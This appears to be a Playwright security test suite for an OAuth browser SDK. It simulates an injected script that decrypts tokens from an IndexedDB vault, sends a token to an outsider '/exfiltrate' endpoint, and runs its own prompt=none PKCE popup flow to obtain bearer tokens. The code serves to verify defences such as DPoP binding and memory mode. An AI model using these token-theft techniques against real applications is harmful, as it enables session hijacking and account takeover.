import type { Page } from '@playwright/test'
import { everythingThePageCanRead } from '../support/page-readable'
import { clearRequestLog, issuedTokens, providerCounters, requestLog } from '../support/servers.js'
import { login } from '../support/spa-session.js'
import { demo, expect, test } from '../support/test'
import { findTokens } from '../support/token-search'
import {
  allIssuedTokens,
  currentTokens,
  loginWithMemoryClient,
  memoryClientOptions,
  refuseIssuedAccessTokens,
} from './session-scenario'
import { callApiFromNode, refreshFromNode } from './stolen-token'
import { callWithVaultKey, raidVault } from './vault-raid'

const me = `${demo.apiOrigin}/api/me`
const outsider = demo.outsiderOrigin

/** The first string property `name` anywhere in `value`. */
function findProperty(value: unknown, name: string): unknown {
  if (typeof value !== 'object' || value === null) return undefined
  for (const [key, item] of Object.entries(value)) {
    if (key === name && typeof item === 'string') return item
    const found = findProperty(item, name)
    if (found !== undefined) return found
  }
  return undefined
}

/**
 * In the page: a client of the attacker's own, on the same issuer and client id, with an allowlist
 * of its choosing; reports whether it found a session and sends one request to the outsider.
 */
async function ownClient(page: Page, persistence: 'indexeddb' | 'memory') {
  const options = memoryClientOptions({ allowedOrigins: [`${outsider}/`], persistence })
  return page.evaluate(
    async ({ options, target }) => {
      const client = window.createAuthClient(options)
      try {
        const { authenticated } = await client.getState()
        const status = await client.fetch(target).then(
          (response) => response.status,
          (error: { code?: string }) => error.code ?? 'failed',
        )
        return { authenticated, status }
      } finally {
        client.close()
      }
    },
    { options, target: `${outsider}/exfiltrate` },
  )
}

test.describe('indexeddb mode', () => {
  test('injected script decrypts the refresh token from the vault; outside the browser it is refused (DPoP-bound)', async ({
    page,
  }) => {
    await login(page)
    const current = await currentTokens()

    // What the script can obtain: the session, decrypted with the vault's own key.
    const raid = await raidVault(page)
    expect(raid.databases).toContain('oauth-enclave')
    const record = raid.decrypted.find(({ name }) => name === 'session')?.value
    const stolen = {
      access: String(findProperty(record, 'accessToken')),
      refresh: String(findProperty(record, 'refreshToken')),
    }
    expect(stolen).toEqual(current)

    // Outside the browser, the stolen tokens are refused: the provider and the API want a proof
    // signed by the key the browser will not export (RFC 9449 §5, §7).
    const before = await providerCounters()
    expect(await refreshFromNode(stolen.refresh, 'none')).toEqual({ status: 400, error: 'invalid_grant' })
    expect(await refreshFromNode(stolen.refresh, 'own-key')).toEqual({ status: 400, error: 'invalid_grant' })
    expect(await callApiFromNode(me, stolen.access, 'none')).toBe(401)
    expect(await callApiFromNode(me, stolen.access, 'own-key')).toBe(401)
    expect((await providerCounters()).token.refresh_token).toBe(before.token.refresh_token)
    expect(findProperty(record, 'tokenType')).toBe('DPoP')
    // What it cannot obtain: the key material. Both keys are usable here and nowhere else.
    expect(raid.exports).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ algorithm: 'AES-GCM', result: 'refused: InvalidAccessError' }),
        expect.objectContaining({ algorithm: 'ECDSA', result: 'refused: InvalidAccessError' }),
      ]),
    )
    expect(raid.exports.filter((key) => !key.result.startsWith('refused'))).toEqual([])

    // Controls: the same tokens are good where the key is. The script can use them in the page…
    expect(await callWithVaultKey(page, me, stolen.access)).toBe(200)
    // …and the refresh token still refreshes for the SDK: the refusals were the binding, not a dead token.
    await refuseIssuedAccessTokens()
    expect(await page.evaluate(async (url) => (await window.auth.fetch(url)).status, me)).toBe(200)
    const after = await issuedTokens()
    expect(after.refresh.at(-1)).not.toBe(stolen.refresh)
    expect((await providerCounters()).token.refresh_token).toBe(before.token.refresh_token + 1)
  })

  test('injected script can run a client of its own on the stored session, and send its token anywhere', async ({
    page,
  }) => {
    await login(page)
    await clearRequestLog(outsider)

    // The allowlist is pinned per worker; the session belongs to the origin, so a second worker
    // with another allowlist restores it. What reaches the outsider is DPoP-bound (test above).
    expect(await ownClient(page, 'indexeddb')).toEqual({ authenticated: true, status: 200 })
    const reached = (await requestLog(outsider)).filter((r) => r.method !== 'OPTIONS')
    expect(reached).toEqual([expect.objectContaining({ path: '/exfiltrate', authorization: true, dpop: true })])

    // And, in any mode, it can use the app's client as a proxy (browser-based-apps §5.1.4).
    const proxied = await page.evaluate(
      async (url) => (await (await window.auth.fetch(url)).json()) as { sub: string },
      me,
    )
    expect(proxied.sub).toBe('alice')
  })
})

test.describe('memory mode', () => {
  test('injected script finds no token: not in the vault, not in anything readable, not through a client of its own', async ({
    page,
  }) => {
    await loginWithMemoryClient(page)
    expect(await page.evaluate(async (url) => (await window.memoryAuth!.fetch(url)).status, me)).toBe(200)
    const tokens = await allIssuedTokens()
    expect(tokens.length).toBeGreaterThan(0)

    const raid = await raidVault(page)
    // Only the login transaction ever went to the vault, and it was consumed by the callback.
    expect(raid.decrypted).toEqual([])
    expect(raid.undecryptable).toEqual([])
    expect(findTokens(JSON.stringify(raid), tokens)).toEqual([])
    expect(findTokens(await everythingThePageCanRead(page), tokens)).toEqual([])

    await clearRequestLog(outsider)
    // With no session to attach, a client refuses to send to its own allowed targets at all.
    expect(await ownClient(page, 'memory')).toEqual({ authenticated: false, status: 'login_required' })
    expect(await ownClient(page, 'indexeddb')).toEqual({ authenticated: false, status: 'login_required' })
    expect((await requestLog(outsider)).filter((r) => r.method !== 'OPTIONS')).toEqual([])

    // What it can still do: use the app's client as a proxy while it runs (browser-based-apps §5.1.4).
    const proxied = await page.evaluate(
      async (url) => (await (await window.memoryAuth!.fetch(url)).json()) as { sub: string },
      me,
    )
    expect(proxied.sub).toBe('mallory-target')
  })
})

test.describe('either mode', () => {
  test('injected script can run an authorization flow of its own and take tokens the SDK never held', async ({
    page,
  }) => {
    // draft-ietf-oauth-browser-based-apps §5.1.3: no browser-only design prevents this. The user
    // has a session at the provider; the script asks for a code with `prompt=none` in a popup on
    // its own PKCE verifier, reads the code when the popup lands back on the app's origin, and
    // redeems it. (The iframe variant fails here: the app's CSP says `frame-ancestors 'none'`.) The
    // provider's `Cross-Origin-Opener-Policy` cuts the popup off from the page, and changes nothing:
    // the script is stored in the app, so it runs in the popup's page too, and passes the code on
    // over a BroadcastChannel of the origin.
    await page.context().addInitScript(() => {
      if (location.pathname === '/callback-alt') new BroadcastChannel('attacker').postMessage(location.href)
    })
    await login(page)
    const popupOpened = page.waitForEvent('popup')
    await page.evaluate(
      async ({ issuer, clientId, redirectUri, scope }) => {
        const base64url = (bytes: Uint8Array) =>
          btoa(String.fromCharCode(...bytes))
            .replace(/\+/g, '-')
            .replace(/\//g, '_')
            .replace(/=+$/, '')
        const metadata = (await (await fetch(`${issuer}/.well-known/openid-configuration`)).json()) as {
          authorization_endpoint: string
          token_endpoint: string
        }
        const verifier = base64url(crypto.getRandomValues(new Uint8Array(32)))
        const challenge = base64url(
          new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))),
        )
        const url = new URL(metadata.authorization_endpoint)
        url.search = new URLSearchParams({
          client_id: clientId,
          response_type: 'code',
          redirect_uri: redirectUri,
          scope,
          state: base64url(crypto.getRandomValues(new Uint8Array(16))),
          code_challenge: challenge,
          code_challenge_method: 'S256',
          prompt: 'none',
        }).toString()
        const channel = new BroadcastChannel('attacker')
        const landed = new Promise((resolve) => (channel.onmessage = ({ data }) => resolve(data)))
        window.open(url.href, 'attacker', 'popup')
        Object.assign(window, { attack: { verifier, tokenEndpoint: metadata.token_endpoint, landed } })
      },
      { issuer: demo.issuer, clientId: demo.clientId, redirectUri: demo.altRedirectUri, scope: demo.scope },
    )
    const popup = await popupOpened
    await popup.waitForURL(`${demo.altRedirectUri}?**`)

    const tokens = await page.evaluate(
      async ({ clientId, redirectUri }) => {
        const { verifier, tokenEndpoint, landed } = (
          window as unknown as { attack: { verifier: string; tokenEndpoint: string; landed: Promise<string> } }
        ).attack
        const code = new URL(await landed).searchParams.get('code')!
        const body = new URLSearchParams({
          grant_type: 'authorization_code',
          code,
          redirect_uri: redirectUri,
          client_id: clientId,
          code_verifier: verifier,
        })
        return (await (await fetch(tokenEndpoint, { method: 'POST', body })).json()) as Record<string, string>
      },
      { clientId: demo.clientId, redirectUri: demo.altRedirectUri },
    )
    // Without a DPoP proof of its own the script gets bearer tokens, good anywhere. (With one, it
    // would hold their key itself: DPoP does not help once the flow is the attacker's.)
    expect(tokens).toMatchObject({ token_type: 'Bearer', access_token: expect.any(String) })
    expect(await callApiFromNode(me, tokens.access_token!, 'none')).toBe(200)
    expect(await refreshFromNode(tokens.refresh_token!, 'none')).toMatchObject({ status: 200 })
  })
})
